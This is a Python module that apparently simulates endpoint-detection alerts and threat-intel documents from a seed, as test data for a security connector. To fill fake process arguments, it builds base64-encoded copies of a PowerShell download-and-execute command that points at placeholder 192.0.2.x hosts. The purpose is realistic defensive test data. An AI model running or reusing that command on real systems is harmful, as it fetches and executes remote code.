"""The simulator's alerts and IntelDocs: deterministic from a seed, virtual for the history (an
alert is computed from its position on demand, so a million cost no memory), stored for injected
and live alerts. See connector/simulator/__init__.py for what the data looks like."""

from __future__ import annotations

import base64
import bisect
import hashlib
import logging
import random
import threading
from typing import Any

import orjson

from connector.simulator.catalogue import (
    DOC_NAMES,
    LABELS,
    LNX_FILES,
    LNX_LEAVES,
    LNX_OS,
    LNX_PARENTS,
    LNX_ROOTS,
    REMOTE_PORTS,
    TECHNIQUES,
    USERS,
    WIN_FILES,
    WIN_LEAVES,
    WIN_OS,
    WIN_PARENTS,
    WIN_ROOTS,
)
from connector.simulator.clock import iso_ms, now_ms, to_ms  # noqa: F401 (re-exported)
from connector.simulator.details import _SLOTS, compile_template, details_tree, json_cached, json_text, process_nodes

log = logging.getLogger(__name__)
MAX_ALERT_DELAY_MS = 301_000  # alertedAt is at most 5 min (+ rounding to the second) before createdAt
_M64 = (1 << 64) - 1

ALERT_FIELDS = (
    "id",
    "eid",
    "state",
    "type",
    "guid",
    "priority",
    "severity",
    "details",
    "intelDocId",
    "groupingId",
    "intelDocRevisionId",
    "scanConfigId",
    "scanConfigRevisionId",
    "computerName",
    "computerIpAddress",
    "matchType",
    "path",
    "receivedAt",
    "suppressedAt",
    "alertedAt",
    "findingId",
    "ackedAt",
    "firstEIDResolutionAttempt",
    "lastEIDResolutionAttempt",
    "createdAt",
    "updatedAt",
)


def _mix(x: int) -> int:
    """splitmix64 finaliser: a cheap deterministic hash for per-alert choices."""
    x = (x + 0x9E3779B97F4A7C15) & _M64
    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & _M64
    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & _M64
    return x ^ (x >> 31)


def mix_hash(*values: int) -> int:
    x = 0
    for v in values:
        x = _mix(x ^ (v & _M64))
    return x


class _Doc:
    """An IntelDoc plus what alerts need from it."""

    def __init__(
        self,
        did: int,
        kind: str,
        name: str,
        match_type: str,
        windows: bool,
        created_ms: int,
        revisions: int,
        labels: list[int],
        techniques: list[tuple[str, str]] | None,
        source: int,
        weight: float,
        seed: int,
    ):
        self.id, self.kind, self.name, self.match_type = did, kind, name, match_type
        self.windows, self.created_ms, self.revisions = windows, created_ms, revisions
        self.labels, self.techniques, self.source, self.weight, self.seed = labels, techniques, source, weight, seed
        self.extra_alerts = 0
        self.history_revisions = revisions  # bump_revision() moves only `revisions`
        self.threat_id = str(mix_hash(seed, did, 6) >> 1)
        self.platforms = ["windows"] if windows else ["linux"]
        self.label_names = [n for i, n in LABELS if i in labels]
        self.technique_ids = [t for t, _ in techniques or ()]
        parts = [mix_hash(seed, did, k) >> shift for k, shift in ((1, 32), (2, 48), (3, 48), (4, 48), (5, 16))]
        self.uuid = "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}".format(*parts)

    def body(self, n_alerts: int, full: bool = True) -> dict:
        rev = self.revisions
        updated = self.created_ms + (rev - 1) * 86_400_000 + 12_345
        compiled = None
        if self.kind == "tanium-signal":
            text = f"process.name contains '{self.name.split()[0].lower()}'"
            compiled = {
                "expressions": [],
                "terms": [
                    {
                        "condition": "contains",
                        "negate": False,
                        "value": self.name.split()[0].lower(),
                        "object": "process",
                        "property": "name",
                    }
                ],
                "operator": "and",
                "text": text,
                "syntax_version": 6,
            }
        count = int(n_alerts * self.weight) + self.extra_alerts
        doc = {
            "id": self.id,
            "type": self.kind,
            "typeVersion": "3" if self.kind == "yara" else "1.0",
            "md5": hashlib.md5(f"{self.seed}:{self.id}:{rev}".encode()).hexdigest(),
            "blobId": self.uuid,
            "revisionId": rev,
            "intrinsicId": self.name if self.kind == "tanium-signal" else None,
            "name": self.name,
            "description": f"Detects {self.name.lower()} ({self.kind}).",
            "size": 200 + self.id % 900,
            "compiled": compiled,
            "isSchemaValid": True,
            "sourceId": self.source,
            "alertCount": count,
            "unresolvedAlertCount": count * 4 // 5,
            "customHash": None,
            "mitreAttack": {"techniques": [{"id": t, "name": n} for t, n in self.techniques]}
            if self.techniques
            else None,
            "platforms": self.platforms,
            "createdAt": iso_ms(self.created_ms),
            "updatedAt": iso_ms(updated),
            "throttledFindingCount": 0,
            "allowAutoDisable": self.kind != "processInjection",
            "disabled": False,
            "disabledEndpointCount": 0,
            "firstDeploymentTimestamp": iso_ms(self.created_ms + 3_600_000),
            "lastDeploymentTimestamp": iso_ms(updated + 60_000),
            "status": "N/A" if self.kind == "processInjection" else "HIGH_FIDELITY",
        }
        if full:
            doc["labelIds"] = list(self.labels)
            doc["suppressionRules"] = []
            doc["contents"] = (
                orjson.dumps({"name": self.name, "syntax_version": 6}).decode()
                if self.kind == "tanium-signal"
                else f"<{self.kind} document {self.id}>"
            )
        return doc


class _Host:
    def __init__(self, seed: int, j: int):
        h = mix_hash(seed, j, 77)
        self.windows = h % 10 < 8
        role = (
            ["ws-fin", "ws-hr", "ws-eng", "srv-db", "srv-app", "lap-sales"][h % 6]
            if self.windows
            else ["lnx-web", "lnx-build", "lnx-db"][h % 3]
        )
        self.name = f"{role}-{j + 1:04d}.corp.local"
        self.ip = f"10.{20 + j // 250}.{j % 250}.{10 + (h >> 8) % 240}"
        self.eid = 1000 + j
        os_name, patch, build = (WIN_OS if self.windows else LNX_OS)[(h >> 16) % 3 if self.windows else (h >> 16) % 2]
        self.system_info = {"os": os_name, "bits": 64, "platform": "Windows" if self.windows else "Linux"}
        if patch:
            self.system_info.update(patch_level=patch, build_number=build)
        self.system_info_json = orjson.dumps(self.system_info).decode()
        self.users = [USERS[(h >> (20 + 4 * k)) % len(USERS)] for k in range(2)]
        self.domain = "CORP" if self.windows else ""


class Data:
    """The alert store: virtual history alerts (1..n_base) followed by stored extra alerts."""

    def __init__(self, seed: int, n_base: int, n_docs: int, revisions: int, n_hosts: int, end_ms: int, history_ms: int):
        self.seed, self.n_base = seed, n_base
        self.key = mix_hash(seed, 0x5EED)
        self.span = max(1, history_ms)
        self.start_ms = end_ms - self.span
        self.hosts = [_Host(seed, j) for j in range(max(1, n_hosts))]
        self.win_hosts = [h for h in self.hosts if h.windows] or self.hosts
        self.lnx_hosts = [h for h in self.hosts if not h.windows] or self.hosts
        self.host_by_name = {h.name: h for h in self.hosts}
        self.b64 = [
            base64.b64encode(
                f"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.{k}/a')".encode("utf-16-le")
            ).decode()
            for k in range(1, 33)
        ]
        self.docs: list[_Doc] = []
        kinds = [
            "tanium-signal",
            "tanium-signal",
            "openioc",
            "yara",
            "tanium-signal",
            "processInjection",
            "tanium-signal",
            "yara",
        ]
        raw = [1.0 / (k + 1) for k in range(max(1, n_docs))]  # Zipf: many alerts share few docs
        total = sum(raw)
        for k in range(max(1, n_docs)):
            kind = kinds[k % len(kinds)]
            names = DOC_NAMES[kind]
            name = names[(k // len(kinds)) % len(names)]
            if k >= len(kinds) * len(names):
                name = f"{name} #{k}"
            match_type = {"openioc": "file", "yara": ("file", "process")[k % 2], "processInjection": "process"}.get(
                kind, ("process", "port")[1 if "Connection" in name or k % 5 == 4 else 0]
            )
            windows = kind != "openioc" or k % 3 != 2
            h = mix_hash(seed, k, 5)
            techniques = None
            if kind == "processInjection":
                techniques = [TECHNIQUES[11], TECHNIQUES[12]]
            elif kind != "openioc" or k % 2:
                techniques = [TECHNIQUES[(h >> (8 * i)) % len(TECHNIQUES)] for i in range(1 + h % 2)]
                techniques = list(dict.fromkeys(techniques))
            labels = sorted({LABELS[(h >> (3 * i + 30)) % len(LABELS)][0] for i in range(h % 4)})
            source = {"tanium-signal": 1, "openioc": 3, "yara": 4, "processInjection": 6}[kind]
            self.docs.append(
                _Doc(
                    100 + k * 7 + h % 7,
                    kind,
                    name,
                    match_type,
                    windows,
                    self.start_ms - 30 * 86_400_000 - k * 3_600_000,
                    1 + (h >> 40) % max(1, revisions),
                    labels,
                    techniques,
                    source,
                    raw[k] / total,
                    seed,
                )
            )
        self.doc_by_id: dict[Any, _Doc] = {d.id: d for d in self.docs}
        self.doc_index = {d.id: k for k, d in enumerate(self.docs)}
        self.cum = []
        acc = 0.0
        for w in raw:
            acc += w / total
            self.cum.append(acc)
        # binary hashes are fixed per (seed, path): the same binary has the same hash everywhere
        self._hashes: dict[str, tuple[str, str, str]] = {}
        self._templates: dict[tuple, str] = {}
        self._ancestries: dict[tuple[int, int], dict[str, str]] = {}
        self.extra: list[dict] = []
        self.extra_created: list[int] = []
        self.extra_alerted: list[int] = []
        self.extra_doc: list[_Doc | None] = []
        self.lock = threading.Lock()
        self.pruned = 0  # the oldest `pruned` alerts are deleted (Simulator.prune)
        self.changed: dict[int, dict] = {}  # history alert id → fields a state change set (lifecycle.py)

    # -- positions and times ----------------------------------------------------------------------
    def total(self) -> int:
        return self.n_base + len(self.extra)

    def created(self, pos: int) -> int:
        if pos < self.n_base:
            return self.start_ms + pos * self.span // self.n_base
        return self.extra_created[pos - self.n_base]

    def base_alerted(self, pos: int) -> int:
        delay = _mix(self.key ^ ((pos + 1) << 8) ^ 11) % 300_000
        return (self.created(pos) - delay) // 1000 * 1000

    def last_created(self) -> int:
        n = self.total()
        return self.created(n - 1) if n else 0

    def first_pos_created_at_least(self, t: int) -> int:
        return bisect.bisect_left(_CreatedView(self), t)

    def hashes(self, path: str) -> tuple[str, str, str]:
        got = self._hashes.get(path)
        if got is None:
            b = f"{self.seed}|{path}".encode()
            got = (hashlib.md5(b).hexdigest(), hashlib.sha1(b).hexdigest(), hashlib.sha256(b).hexdigest())
            self._hashes[path] = got
        return got

    def doc_for(self, pos: int) -> _Doc | None:
        if pos < self.n_base:
            return self.base_doc(pos)
        return self.extra_doc[pos - self.n_base]

    def base_doc(self, pos: int) -> _Doc:
        """The IntelDoc of the history alert at `pos` (every history alert has one)."""
        u = (_mix(self.key ^ ((pos + 1) << 8) ^ 3) >> 11) / 2**53
        return self.docs[min(bisect.bisect_left(self.cum, u), len(self.docs) - 1)]

    # -- building alerts --------------------------------------------------------------------------
    def top(self, pos: int) -> dict:
        """Top-level fields of the alert at `pos` (history alerts: without `details`)."""
        if pos >= self.n_base:
            return self.extra[pos - self.n_base]
        top = self._top(pos + 1, self.created(pos), self.base_alerted(pos), self.base_doc(pos), {})
        top.update(self.changed.get(pos + 1, ()))
        return top

    def alert(self, pos: int) -> dict:
        """The wire alert at `pos` (details as a JSON string). Stored alerts are returned as is."""
        if pos >= self.n_base:
            return self.extra[pos - self.n_base]
        doc, alerted = self.base_doc(pos), self.base_alerted(pos)
        top = self._top(pos + 1, self.created(pos), alerted, doc, {})
        top["details"] = self._details(top, doc, {}, alerted)
        top.update(self.changed.get(pos + 1, ()))
        return top

    def _acked(self, h: int, created: int) -> int | None:
        """When the alert with hash `h` was acknowledged (its state moved off unresolved), or None:
        70% stay unresolved, and so does every alert whose acknowledgement lies after the history's
        end (live alerts are new, so unresolved; no updatedAt lies in the future)."""
        if (h >> 40) % 100 < 70:
            return None
        acked = created + 60_000 + (h >> 20) % 7_200_000
        return acked if acked + 7 <= self.start_ms + self.span else None

    def base_updated(self, pos: int) -> int:
        """updatedAt (epoch ms) of the history alert at `pos` before any state change (cheap: no alert built)."""
        created = self.created(pos)
        acked = self._acked(_mix(self.key ^ ((pos + 1) << 8)), created)
        return created if acked is None else acked + 7

    def _top(self, aid: int, created: int, alerted: int, doc: _Doc, ov: dict) -> dict:
        h = _mix(self.key ^ (aid << 8))
        h2 = _mix(h ^ 2)
        hosts = self.win_hosts if doc.windows else self.lnx_hosts
        host = hosts[h % len(hosts)]
        name, ip = ov.get("computer_name", host.name), ov.get("ip", host.ip)
        match_type = ov.get("match_type", doc.match_type)
        leaf = self._leaf(doc, h2)
        if match_type == "file":
            tmpl = (WIN_FILES if doc.windows else LNX_FILES)[(h2 >> 8) % 4]
            path = tmpl.format(u=host.users[(h2 >> 12) & 1], n=(h2 >> 16) % 100_000)
        else:
            path = leaf[1]
        path = ov.get("path", path)
        acked = self._acked(h, created)
        state_roll = (h >> 40) % 100
        state = (
            "unresolved"
            if acked is None
            else "inprogress"
            if state_roll < 82
            else "resolved"
            if state_roll < 95
            else "suppressed"
        )
        severity = ("high", "high", "low", "info", "critical", "medium")[(h >> 48) % 6]
        priority = ("high", "high", "medium", "low", "critical")[(h >> 52) % 5]
        rev = doc.revisions
        if aid <= self.n_base:  # history alerts walk through the doc's first revisions
            rev = 1 + (doc.history_revisions * (aid - 1)) // self.n_base
        rev = ov.get("intel_doc_revision", rev)
        scan = 1 + (h >> 56) % 3
        finding = _mix(h ^ 9) - (1 << 63)
        guid = f"00000000-0000-0000-{(h >> 32) & 0xFFFF:04x}-{aid ^ (self.key & 0xFFFFFFFFFFFF):012x}"
        received = created - 100 - (h >> 4) % 400
        created_s, eid_s = iso_ms(created), iso_ms(created + 2_242)
        acked_s = iso_ms(acked) if acked else None
        return {
            "id": aid,
            "eid": host.eid,
            "state": ov.get("state", state),
            "type": "detect.match",
            "guid": guid,
            "priority": ov.get("priority", priority),
            "severity": ov.get("severity", severity),
            "details": None,
            "intelDocId": ov.get("intel_doc_id", doc.id),
            "groupingId": 1 + (h >> 28) % 9,
            "intelDocRevisionId": rev,
            "scanConfigId": ov.get("scan_config_id", scan),
            "scanConfigRevisionId": 1,
            "computerName": name,
            "computerIpAddress": ip,
            "matchType": match_type,
            "path": path,
            "receivedAt": iso_ms(received),
            "suppressedAt": acked_s if state == "suppressed" else None,
            "alertedAt": iso_ms(alerted),
            "findingId": str(finding),
            "ackedAt": acked_s,
            "firstEIDResolutionAttempt": eid_s,
            "lastEIDResolutionAttempt": eid_s,
            "createdAt": created_s,
            "updatedAt": iso_ms(acked + 7) if acked else created_s,
        }

    def _leaf(self, doc: _Doc, h2: int) -> tuple[str, str, str]:
        leaves = WIN_LEAVES if doc.windows else LNX_LEAVES
        if doc.match_type == "port":  # network-capable binaries
            leaves = [leaves[i] for i in ((0, 3, 4, 5, 8) if doc.windows else (1, 2, 3))]
        return leaves[(doc.id + (h2 & 3)) % len(leaves)]

    def _details(self, top: dict, doc: _Doc | None, ov: dict, alerted_ms: int) -> str | None:
        """The `details` JSON string: per-alert values (already JSON text) poured into a cached
        template of its shape; building the nested dicts per alert would cost 3× more."""
        if "details" in ov:
            raw = ov["details"]
            return raw if isinstance(raw, str) or raw is None else orjson.dumps(raw).decode()
        doc = doc or self.docs[0]
        shape = (doc.windows, top["matchType"], doc.kind == "processInjection")
        tmpl = self._templates.get(shape)
        if tmpl is None:
            tmpl = self._templates[shape] = compile_template(details_tree(shape, _SLOTS))
        return tmpl.format_map(self._detail_values(top, doc, ov, alerted_ms))

    def _detail_values(self, top: dict, doc: _Doc, ov: dict, alerted_ms: int) -> dict[str, str]:
        """Slot name → JSON text of the value."""
        aid = top["id"]
        rng = random.Random(self.key ^ (aid << 8) ^ 99)
        rand, bits = rng.random, rng.getrandbits
        windows = doc.windows
        host = self.host_by_name.get(top["computerName"]) or (self.win_hosts if windows else self.lnx_hosts)[0]
        user0 = host.users[0]
        leaf = self._leaf(doc, _mix(_mix(self.key ^ (aid << 8)) ^ 2))
        leaf_path = top["path"] if top["matchType"] != "file" else leaf[1]
        n, o = int(rand() * 100_000), 1 + int(rand() * 249)
        md5, sha1, sha256 = self.hashes(leaf_path)
        j, jc = json_text, json_cached
        v = {
            "domain": jc(host.domain),
            "match_hash": f'"{bits(63)}"',
            "ih": f'"{bits(63)}"',
            "intra": f'"{doc.threat_id}"',
            "hunt_id": f'"{top["scanConfigId"]}"',
            "finding_intel_id": j(f"{top['intelDocId']}:{top['intelDocRevisionId']}:{doc.uuid}"),
            "seen": f'"{top["alertedAt"]}"',
            "threat_id": '"Thread"' if doc.kind == "processInjection" else f'"{doc.threat_id}"',
            "finding_id": f'"{top["findingId"]}"',
            "system_info": host.system_info_json,
            "reporting_id": f'"reporting-{host.eid}"',
            "intel_id": j(top["intelDocId"]),
            "config_id": j(top["scanConfigId"]),
            "config_rev_id": j(top["scanConfigRevisionId"]),
        }
        if top["matchType"] == "file":  # a file at rest: no process
            fmd5, fsha1, fsha256 = self.hashes(top["path"])
            v.update(
                fmd5=j(ov.get("md5", fmd5)),
                fsha1=j(ov.get("sha1", fsha1)),
                fsha256=j(ov.get("sha256", fsha256)),
                fsize=j(str(ov.get("size", 1_000 + int(rand() * 5_000_000)))),
                fpath=j(top["path"]),
            )
            return v
        ancestry = self._ancestry(host, int(rand() * 8))
        v.update(ancestry)
        args = ov.get("args") or leaf[2].format(b64=self.b64[aid % len(self.b64)], n=n, o=o, u=user0)
        user = ov.get("user") or (f"{host.domain}\\{user0}" if windows else user0)
        ts_ms = alerted_ms - int(rand() * 30_000)
        target = f"C:\\Users\\{user0}\\AppData\\Local\\Temp\\{n}.tmp" if windows else f"/tmp/.{n}"
        v.update(
            pid0=str(400 + int(rand() * 30_000)),
            ppid0=ancestry["pid1"],
            name0=jc(ov.get("process_name", leaf[0])),
            path0=jc(leaf_path),
            args0=j(args),
            md50=j(ov["md5"]) if "md5" in ov else f'"{md5}"',
            sha10=j(ov["sha1"]) if "sha1" in ov else f'"{sha1}"',
            sha2560=j(ov["sha256"]) if "sha256" in ov else f'"{sha256}"',
            user0=jc(user),
            uname0=jc(user.split("\\")[-1]),
            uid0=f'"{bits(63)}"',
            ah0=f'"{bits(63)}"',
            ih0=f'"{bits(63)}"',
            start0=f'"{iso_ms((alerted_ms - 1_000 - int(rand() * 600_000)) // 1000 * 1000)}"',
            ts=f'"{iso_ms(ts_ms // 1000 * 1000)}"',
            ts_ms=f'"{ts_ms}"',
            event_id=f'"{bits(63)}"',
            ah=f'"{bits(63)}"',
            ih2=f'"{bits(63)}"',
            alerted=f'"{top["alertedAt"]}"',
            address=f'"0x00007ffc{bits(32):08x}"',
            target=j(target),
            local_ip=j(ov.get("local_ip", top["computerIpAddress"])),
            remote_ip=j(ov.get("remote_ip", f"203.0.113.{o}")),
            local_port=j(ov.get("local_port", 49152 + int(rand() * 16383))),
            remote_port=j(ov.get("remote_port", REMOTE_PORTS[int(rand() * len(REMOTE_PORTS))])),
        )
        return v

    def _ancestry(self, host: _Host, variant: int) -> dict[str, Any]:
        """The parent and root processes as ready JSON (one of 8 chains per host): ancestors are
        long-lived, so the same few instances parent many alerts, and they cost nothing per alert."""
        key = (host.eid, variant)
        got = self._ancestries.get(key)
        if got is not None:
            return got
        rng = random.Random(mix_hash(self.seed, host.eid, variant))
        parents, roots = (WIN_PARENTS, WIN_ROOTS) if host.windows else (LNX_PARENTS, LNX_ROOTS)
        user = "NT AUTHORITY\\SYSTEM" if host.windows else "root"
        t = self.start_ms - rng.randrange(3_600_000, 30 * 86_400_000)
        v: dict[str, Any] = {"domain": host.domain}
        pid_parent = 4
        for k, tbl in ((2, roots), (1, parents)):
            name, path, args = tbl[rng.randrange(len(tbl))]
            md5, sha1, sha256 = self.hashes(path)
            pid = rng.randrange(400, 30_000)
            t += rng.randrange(1_000, 3_600_000)
            v.update(
                {
                    f"pid{k}": pid,
                    f"ppid{k}": pid_parent,
                    f"name{k}": name,
                    f"path{k}": path,
                    f"args{k}": args.format(u=host.users[0], n=rng.randrange(10_000)),
                    f"md5{k}": md5,
                    f"sha1{k}": sha1,
                    f"sha256{k}": sha256,
                    f"user{k}": user,
                    f"uname{k}": user.split("\\")[-1],
                    f"uid{k}": str(rng.getrandbits(63)),
                    f"ah{k}": str(rng.getrandbits(63)),
                    f"ih{k}": str(rng.getrandbits(63)),
                    f"start{k}": iso_ms(t // 1000 * 1000),
                }
            )
            pid_parent = pid
        root = process_nodes(v, 2, host.windows, None, None)
        parent = process_nodes(v, 1, host.windows, root[0], root[1])
        got = {"props_parent": json_text(parent[0]), "acting_parent": json_text(parent[1]), "pid1": str(v["pid1"])}
        self._ancestries[key] = got
        return got

    def append(self, aid_created_alerted: tuple[int, int], doc: _Doc | None, ov: dict) -> dict:
        """Build and store one alert with the next id (caller holds the lock)."""
        created, alerted = aid_created_alerted
        aid = self.total() + 1
        top = self._top(aid, created, alerted, doc or self.docs[0], ov)
        top["details"] = self._details(top, doc, ov, alerted)
        for k, v in (ov.get("fields") or {}).items():
            top[k] = v
        self.extra.append(top)
        self.extra_created.append(created)
        self.extra_alerted.append(alerted)
        self.extra_doc.append(doc)
        if doc:
            doc.extra_alerts += 1
        return top


class _CreatedView:
    """createdAt by position, as a sequence for bisect."""

    def __init__(self, data: Data):
        self.data = data
        self.n = data.total()

    def __len__(self) -> int:
        return self.n

    def __getitem__(self, pos: int) -> int:
        return self.data.created(pos)
